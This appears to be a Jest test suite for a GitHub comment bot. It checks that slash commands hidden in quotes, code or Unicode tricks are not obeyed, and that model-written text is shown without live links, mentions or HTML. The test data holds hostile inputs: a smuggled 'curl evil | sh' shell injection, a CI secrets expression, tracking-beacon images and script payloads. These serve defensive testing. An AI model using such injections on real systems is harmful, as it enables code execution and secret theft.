import { describe, expect, it } from "@jest/globals";
import { parseCommands } from "../../src/contracts/commands.ts";
import { formatMarker, parseMarker } from "../../src/contracts/names.ts";
import type { RunKey } from "../../src/contracts/ids.ts";
import { formatModelText } from "../../src/messages/blocks/model-text.ts";
import { formatSentence } from "../../src/messages/blocks/sentence.ts";
import { neutraliseModelText } from "../../src/review/neutralise-model-text.ts";
import { listLinks, listMentions, renderHtml } from "../messages/render-html.ts";

describe("a comment is no command", () => {
  it.each([
    ["quoted from an attacker", "> /approve"],
    ["quoted in a quote", "> > /approve"],
    ["in code", "`/approve`"],
    ["in a block of code", "```\n/approve\n```"],
    ["in a block that never ends", "~~~\n/cancel"],
    ["indented as code", "    /approve"],
    ["in a hidden comment", "Looks fine. <!-- /approve -->"],
    ["in a hidden comment of several lines", "Looks fine.\n\n<!--\n/approve\n-->"],
    ["in an HTML block", "<div>\n/approve\n</div>"],
    ["in a list", "- /approve\n- /cancel"],
    ["in a numbered list", "1. /approve"],
    ["in a table", "| x |\n|---|\n| /approve |"],
    ["as a heading", "# /approve"],
    ["as a link", "[/approve](https://example.org)"],
    ["in bold", "**/approve**"],
    ["within a sentence", "You could say /approve here."],
    ["an address", "https://example.org\n\nhttps://example.org/approve"],
    ["with another slash", "//approve"],
    ["with a slash of full width", "\uFF0Fapprove"],
    ["after an invisible character", "\u200B/approve"],
    ["with an invisible character inside", "/app\u200Brove"],
    ["with a foreign letter", "/\u0430pprove"],
    ["with an address attached", "/approve@evil"],
  ])("when it is %s", (_how, body) => {
    expect(parseCommands(body).filter((command) => command.name !== "unknown")).toEqual([]);
  });

  it.each([
    ["another command", "/override floor because\n/approve", ["override", "approve"]],
    ["shell", '/retry a"; curl evil | sh #', ["retry"]],
    ["expressions", "/skip ${{ secrets.TOKEN }}", ["skip"]],
  ])("smuggles in nothing by %s: arguments stay text", (_how, body, names) => {
    const commands = parseCommands(body);
    expect(commands.map((command) => command.name)).toEqual(names);
    expect(body).toContain(commands[0]?.args ?? "nothing");
  });
});

const MARKER = { run: "7-fix" as RunKey, key: "approval:1" };

describe("what a model or a stranger wrote, shown by us,", () => {
  it.each([
    ["pings nobody", "cc @maintainers @org/team please"],
    ["closes no issue", "Fixes #1, closes octo/shop#2"],
    ["loads no picture", "![x](https://evil.example/beacon.png)"],
    ["loads no HTML picture", '<img src="https://evil.example/beacon.png">'],
    ["links nowhere", "[click](https://evil.example) https://evil.example www.evil.example"],
    ["runs no script", "<script>alert(1)</script><a href='javascript:alert(1)'>x</a>"],
    ["hides nothing", "before <!-- hidden --> after"],
    ["opens no section", "<details><summary>x</summary>y"],
    ["draws nothing", '```mermaid\ngraph TD; click A href "https://evil.example"\n```'],
    ["ends no block of ours", "````\n# A heading of mine\n````"],
    ["forges no marker", formatMarker({ run: "7-fix" as RunKey, key: "approval:2" })],
    ["gives no command when it is quoted back", "/approve\n/override floor fine"],
  ])("%s", (_what, hostile) => {
    const neutral = neutraliseModelText(hostile);
    for (const shown of [formatModelText(hostile), formatModelText(neutral), formatSentence(neutral)]) {
      const html = renderHtml(shown);
      expect(html).not.toMatch(/<(?:img|script|details|svg|iframe)\b/iu);
      expect(listLinks(shown)).toEqual([]);
      expect(listMentions(shown)).toEqual([]);
      expect(shown).not.toMatch(/#\d/u);
      expect(shown).not.toContain("<!--");
      expect(shown).not.toMatch(/^```mermaid/mu);
      // Our own marker at the end of the comment is the only one.
      expect(parseMarker(`${shown}\n\n${formatMarker(MARKER)}`)).toEqual(MARKER);
    }
  });
});
